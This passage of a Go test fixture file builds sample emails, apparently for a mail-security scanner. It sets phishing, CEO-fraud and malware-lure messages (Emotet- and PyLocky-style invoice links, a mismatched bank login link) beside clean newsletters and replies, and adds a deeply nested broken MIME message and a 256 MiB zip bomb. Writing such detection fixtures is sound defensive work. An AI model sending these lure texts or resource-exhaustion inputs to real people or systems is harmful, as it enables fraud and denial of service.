			msgID:   "CAF3x7Lb0sAto1Q@mail.freemail.example",
			trace:   []field{authResults("spf=softfail smtp.mailfrom=freemail.example; dkim=none; dmarc=fail (p=quarantine) header.from=freemail.example")},
		},
		charset: csISO2022, cte: cte7bit,
		body: "経理部 御中\n\n" +
			"至急の依頼です。本日中に取引先への振込をお願いします。\n" +
			"取引先の口座変更に伴う送金のため、振込先口座と金額は\n" +
			"このメールに返信いただければすぐにお送りします。\n\n" +
			"終日会議のため電話には出られません。メールで対応してください。\n" +
			"この件は社内でも内密にお願いします。\n\n" +
			"代表取締役 佐藤\n",
	}.bytes()
}

func pylockyLink() ([]byte, error) {
	return email{
		header: hdr{
			date:    time.Date(2018, 8, 21, 9, 30, 12, 0, cet),
			from:    [2]string{"Service Comptabilité", "comptabilite@factures-en-ligne.example"},
			to:      [2]string{"", "contact@corp.example"},
			subject: "Facture impayée 2018-08",
			msgID:   "20180821093012.2018-08@factures-en-ligne.example",
		},
		charset: csUTF8, cte: cteQP,
		body: "Bonjour,\n\n" +
			"Sauf erreur de notre part, la facture n° 2018-08 reste impayée à ce jour.\n" +
			"Vous pouvez télécharger la facture ici : http://example.invalid/facture_2018.zip\n\n" +
			"Merci de procéder au règlement sous 48 heures.\n\n" +
			"Cordialement,\nService Comptabilité\n",
	}.bytes()
}

func emotetLink() ([]byte, error) {
	plain, err := text(csASCII, cte7bit, "Hello,\n\n"+
		"Please see the invoice below, payment is due this week.\n\n"+
		"http://example.invalid/INVOICE-4821.doc\n\n"+
		"Thank you,\nKaren Miller\n")
	if err != nil {
		return nil, err
	}
	html, err := textPart("html", csASCII, cte7bit, "<html><body>\n"+
		"<p>Hello,</p>\n"+
		"<p>Please see the invoice below, payment is due this week.</p>\n"+
		"<p><a href=\"http://example.invalid/INVOICE-4821.doc\">Download Invoice 4821</a></p>\n"+
		"<p>Thank you,<br>Karen Miller</p>\n"+
		"</body></html>\n")
	if err != nil {
		return nil, err
	}
	return message(hdr{
		date:    time.Date(2017, 8, 22, 10, 41, 7, 0, est),
		from:    [2]string{"Karen Miller", "karen.miller@smallbiz-accounting.example"},
		to:      [2]string{"", "billing@corp.example"},
		subject: "Invoice 4821 payment due",
		msgID:   "20170822104107.4821.karen.miller@smallbiz-accounting.example",
	}, multipart("alternative", "=_emotet_alt_0019", plain, html))
}

func linkMismatchBank() ([]byte, error) {
	plain, err := text(csASCII, cte7bit, "Dear customer,\n\n"+
		"We noticed an unusual sign-in and locked your online banking access.\n"+
		"Sign in within 24 hours to confirm your identity.\n\n"+
		"Bank Example Security Team\n")
	if err != nil {
		return nil, err
	}
	html, err := textPart("html", csASCII, cte7bit, "<html><body>\n"+
		"<p>Dear customer,</p>\n"+
		"<p>We noticed an unusual sign-in and locked your online banking access.\n"+
		"Sign in within 24 hours to confirm your identity:</p>\n"+
		"<p><a href=\"http://example.invalid/secure/login\">https://www.bank.example/secure/login</a></p>\n"+
		"<p>Bank Example Security Team</p>\n"+
		"</body></html>\n")
	if err != nil {
		return nil, err
	}
	return message(hdr{
		date:    time.Date(2020, 11, 5, 9, 12, 0, 0, time.UTC),
		from:    [2]string{"Bank Example Security", "security@bank-example-alerts.example"},
		to:      [2]string{"", "j.smith@corp.example"},
		subject: "Your online banking access has been locked",
		msgID:   "20201105091200.lock.4471@bank-example-alerts.example",
	}, multipart("alternative", "=_bank_alt_0031", plain, html))
}

// --- clean ---------------------------------------------------------------

func newsletterClickTracked() ([]byte, error) {
	track := func(dest string) string {
		return "https://click.mailer.example/ct?id=8841&amp;url=" + url.QueryEscape(dest)
	}
	plain, err := text(csASCII, cte7bit, "Shop Example - November news\n\n"+
		"Winter sale: https://shop.example/sale\n"+
		"New arrivals: https://shop.example/new\n\n"+
		"Unsubscribe: https://shop.example/unsubscribe\n")
	if err != nil {
		return nil, err
	}
	html, err := textPart("html", csASCII, cte7bit, "<html><body>\n"+
		"<h1>Shop Example - November news</h1>\n"+
		"<p>Winter sale: <a href=\""+track("https://shop.example/sale")+"\">https://shop.example/sale</a></p>\n"+
		"<p>New arrivals: <a href=\""+track("https://shop.example/new")+"\">https://shop.example/new</a></p>\n"+
		"<p style=\"font-size:small\"><a href=\""+track("https://shop.example/unsubscribe")+"\">https://shop.example/unsubscribe</a></p>\n"+
		"</body></html>\n")
	if err != nil {
		return nil, err
	}
	return message(hdr{
		date:    time.Date(2020, 11, 6, 7, 0, 0, 0, time.UTC),
		from:    [2]string{"Shop Example", "news@shop.example"},
		to:      [2]string{"", "j.smith@corp.example"},
		subject: "November news: winter sale",
		msgID:   "20201106070000.nl.2020-11@shop.example",
		trace:   []field{authResults("spf=pass smtp.mailfrom=mailer.example; dkim=pass header.d=shop.example; dmarc=pass header.from=shop.example")},
		extra: []field{
			{name: "List-Unsubscribe", value: "<https://shop.example/unsubscribe>"},
		},
	}, multipart("alternative", "=_shop_alt_0032", plain, html))
}

func newsletterJA() ([]byte, error) {
	plain, err := text(csISO2022, cte7bit, "サンプル商事 メールマガジン 2020年8月号\n\n"+
		"いつもお世話になっております。サンプル商事広報部です。\n\n"+
		"■今月のトピック\n"+
		"新しい物流センターが稼働を開始しました。\n"+
		"https://www.sample-shoji.example/news/2020/08/\n\n"+
		"■夏のオンラインセミナー\n"+
		"8月25日に開催します。詳細は下記ページをご確認ください。\n"+
		"https://www.sample-shoji.example/event/summer-seminar\n\n"+
		"■オンラインショップ\n"+
		"https://shop.sample-shoji.example/sale\n\n"+
		"配信停止はこちら：https://www.sample-shoji.example/mailmagazine/unsubscribe\n")
	if err != nil {
		return nil, err
	}
	html, err := textPart("html", csUTF8, cteQP, `<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>サンプル商事 メールマガジン 2020年8月号</title></head>
<body>
<h1>サンプル商事 メールマガジン 2020年8月号</h1>
<p>いつもお世話になっております。サンプル商事広報部です。</p>
<h2>今月のトピック</h2>
<p>新しい物流センターが稼働を開始しました。<a href="https://www.sample-shoji.example/news/2020/08/">記事を読む</a></p>
<h2>夏のオンラインセミナー</h2>
<p>8月25日に開催します。詳細は<a href="https://www.sample-shoji.example/event/summer-seminar">セミナーのページ</a>をご確認ください。</p>
<h2>オンラインショップ</h2>
<p><a href="https://shop.sample-shoji.example/sale">夏のセールはこちら</a></p>
<p style="font-size:small"><a href="https://www.sample-shoji.example/mailmagazine/unsubscribe">配信停止</a></p>
</body></html>
`)
	if err != nil {
		return nil, err
	}
	return message(hdr{
		date:    time.Date(2020, 8, 3, 8, 0, 0, 0, jst),
		from:    [2]string{"サンプル商事 広報部", "news@sample-shoji.example"},
		to:      [2]string{"", "tanaka@corp.example"},
		subject: "【サンプル商事】メールマガジン 2020年8月号",
		charset: csISO2022,
		msgID:   "20200803080000.mm202008@sample-shoji.example",
		trace:   passTrace("sample-shoji.example"),
		extra: []field{
			{name: "List-Unsubscribe", value: "<https://www.sample-shoji.example/mailmagazine/unsubscribe>"},
			{name: "List-Id", value: "<mailmagazine.sample-shoji.example>"},
		},
	}, multipart("alternative", "=_newsletter_alt_0020", plain, html))
}

func textMentionsWeb() ([]byte, error) {
	notes := "Web team sync - notes\n" +
		"Agenda item 1: move the WEB front end to the new cluster.\n" +
		"WEB\n" +
		"1\n" +
		"Release notes: http://wiki.corp.example/release/1\n"
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 16, 17, 45, 0, 0, jst),
			from:    [2]string{"Suzuki Ichiro", "i.suzuki@corp.example"},
			to:      [2]string{"", "web-team@corp.example"},
			subject: "Web team sync notes",
			msgID:   "20200716174500.notes.i.suzuki@corp.example",
			trace:   corpTrace(),
		},
		charset: csASCII, cte: cte7bit,
		body:     "Hi all,\n\nNotes from today's sync are attached.\n\nIchiro\n",
		boundary: "=_notes_0021",
		parts: []*entity{{
			ctype:       "text/plain; charset=us-ascii; name=notes.txt",
			cte:         cte7bit,
			disposition: "attachment; filename=notes.txt",
			body:        []byte(notes),
		}},
	}.bytes()
}

func zipOfPDFs() ([]byte, error) {
	when := time.Date(2020, 7, 14, 18, 2, 0, 0, jst)
	z, err := zipArchive([]zipEntry{
		{name: "report_2020Q2.pdf", data: minimalPDF("Q2 report", "Quarterly report 2020 Q2"), modified: when},
		{name: "minutes_20200714.pdf", data: minimalPDF("Minutes", "Meeting minutes 2020-07-14"), modified: when.Add(3 * time.Minute)},
		{name: "schedule_2020H2.pdf", data: minimalPDF("Schedule", "Project schedule 2020 H2"), modified: when.Add(7 * time.Minute)},
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 15, 9, 12, 0, 0, jst),
			from:    [2]string{"Emma Clark", "emma.clark@partner-co.example"},
			to:      [2]string{"", "tanaka@corp.example"},
			subject: "Q2 documents",
			msgID:   "20200715091200.docs.emma.clark@partner-co.example",
			trace:   passTrace("partner-co.example"),
		},
		charset: csASCII, cte: cte7bit,
		body: "Hello Tanaka-san,\n\n" +
			"As discussed, the Q2 report, yesterday's minutes and the H2 schedule are in the attached zip.\n\n" +
			"Best regards,\nEmma Clark\n",
		boundary: "=_pdfs_0022",
		files:    []file{{"documents_2020-07.zip", "application/zip", csUTF8, z}},
	}.bytes()
}

func businessJar() ([]byte, error) {
	when := time.Date(2020, 7, 10, 13, 0, 0, 0, jst)
	man := "Manifest-Version: 1.0\r\n" +
		"Created-By: 11.0.8 (Oracle Corporation)\r\n" +
		"Implementation-Title: report-tool\r\n" +
		"Implementation-Version: 1.4.2\r\n" +
		"Main-Class: com.example.app.Main\r\n\r\n"
	jar, err := jarArchive(man, []jarClass{
		{name: "com/example/app/Main", main: Marker},
		{name: "com/example/app/ReportWriter"},
		{name: "com/example/app/CsvReader"},
		{name: "com/example/app/Config"},
		{name: "com/example/app/util/Dates"},
		{name: "com/example/app/util/Strings"},
	}, []zipEntry{
		{name: "com/example/app/app.properties", data: []byte("app.name=report-tool\napp.version=1.4.2\n"), modified: when},
	}, when)
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 10, 13, 20, 0, 0, jst),
			from:    [2]string{"Hiroshi Kato", "h.kato@corp.example"},
			to:      [2]string{"", "reporting@corp.example"},
			subject: "report tool 1.4.2",
			msgID:   "20200710132000.jar.h.kato@corp.example",
			trace:   corpTrace(),
		},
		charset: csASCII, cte: cte7bit,
		body: "Hi team,\n\n" +
			"Release 1.4.2 of the report tool is attached (java -jar report-tool-1.4.2.jar).\n" +
			"It fixes the CSV date parsing issue.\n\n" +
			"Hiroshi\n",
		boundary: "=_jar_0023",
		files:    []file{{"report-tool-1.4.2.jar", "application/java-archive", csUTF8, jar}},
	}.bytes()
}

func plainReply() ([]byte, error) {
	parent := "<20200714093012.1A2B3C@corp.example>"
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 14, 11, 2, 45, 0, jst),
			from:    [2]string{"鈴木 一郎", "suzuki@partner-co.example"},
			to:      [2]string{"田中 花子", "tanaka@corp.example"},
			subject: "RE: 打ち合わせ日程の件",
			msgID:   "20200714110245.4D5E6F@partner-co.example",
			trace:   passTrace("partner-co.example"),
			extra:   []field{{name: "In-Reply-To", value: parent}, {name: "References", value: parent}},
		},
		charset: csUTF8, cte: cte8bit,
		body: "田中様\n\n" +
			"お世話になっております。鈴木です。\n" +
			"7月20日（月）14時で承知しました。\n" +
			"当日はよろしくお願いいたします。\n\n" +
			"鈴木\n\n" +
			"> 鈴木様\n" +
			">\n" +
			"> 打ち合わせの日程ですが、7月20日（月）14時はいかがでしょうか。\n" +
			">\n" +
			"> 田中\n",
	}.bytes()
}

func brokenMIME() ([]byte, error) {
	first, err := text(csASCII, cte7bit, "This message is deliberately malformed ("+Marker+").\n")
	if err != nil {
		return nil, err
	}
	badB64 := &entity{
		ctype:       "application/octet-stream; name=broken.bin",
		cte:         cteBase64,
		disposition: "attachment; filename=broken.bin",
		body:        []byte("VGhpcyBpcyBub3Qg!!!@@@ valid base64 ***\r\nQUJD=RUZH\r\n====\r\nSGVsbG8\r\n"),
		rawBody:     true,
	}
	deep, err := text(csASCII, cte7bit, "deep\n")
	if err != nil {
		return nil, err
	}
	for i := 200; i >= 1; i-- {
		deep = multipart("mixed", fmt.Sprintf("=_nest_%03d", i), deep)
	}
	cut := &entity{ctype: "text/plain; charset=us-ascii", cte: cte7bit, body: []byte("This last part is cut off in the middle of a li"), rawBody: true}
	top := mixed("=_broken_top", first, badB64, deep, cut)
	top.unterminated = true
	return message(hdr{
		date:    time.Date(2020, 7, 1, 12, 0, 0, 0, time.UTC),
		from:    [2]string{"Broken Mailer", "mailer@broken-mime.example"},
		to:      [2]string{"", "qa@corp.example"},
		subject: "broken MIME structure",
		msgID:   "20200701120000.broken@broken-mime.example",
		extra:   []field{{name: "X-Long-Header", value: strings.Repeat("0123456789abcdef", 100*1024/16), raw: true}},
	}, top)
}

func zipBomb() ([]byte, error) {
	when := time.Date(2020, 7, 3, 19, 30, 0, 0, jst)
	z, err := zerosZip("data.bin", 256<<20, when)
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 3, 19, 35, 0, 0, jst),
			from:    [2]string{"Backup Job", "backup@corp.example"},
			to:      [2]string{"", "ops@corp.example"},
			subject: "backup",
			msgID:   "20200703193500.backup@corp.example",
			trace:   corpTrace(),
		},
		charset: csASCII, cte: cte7bit,
		body:     "backup of the data directory attached.\n",
		boundary: "=_bomb_0026",
		files:    []file{{"backup.zip", "application/zip", csUTF8, z}},
	}.bytes()
}
